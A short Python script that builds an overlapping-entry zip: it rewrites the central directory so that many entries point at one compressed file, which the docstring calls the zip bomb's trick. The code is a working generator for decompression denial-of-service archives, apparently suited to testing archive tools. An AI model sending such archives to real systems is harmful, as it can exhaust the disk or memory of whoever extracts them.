#!/usr/bin/env python3
"""make_overlapping_zip.py OUT.zip COUNT: a zip whose COUNT central
directory entries, copy0000.txt to copyNNNN.txt, all point at the one local
header of copy0000.txt (the names have the same length, so each entry is a
valid record for that header). Zip tools that read the directory extract
the same data COUNT times: the zip bomb's trick."""
import struct
import sys
import zipfile

out, count = sys.argv[1], int(sys.argv[2])
with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
    archive.writestr("copy0000.txt", b"the same data, again and again\n" * 100)
data = open(out, "rb").read()
end = data.rfind(b"PK\x05\x06")
central_bytes, central_offset = struct.unpack_from("<II", data, end + 12)
entry = data[central_offset:central_offset + central_bytes]
name_at = 46
entries = b"".join(entry[:name_at] + b"copy%04d.txt" % index + entry[name_at + 12:] for index in range(count))
record = bytearray(data[end:end + 22])
struct.pack_into("<HHII", record, 8, count, count, len(entries), central_offset)
open(out, "wb").write(data[:central_offset] + entries + bytes(record))
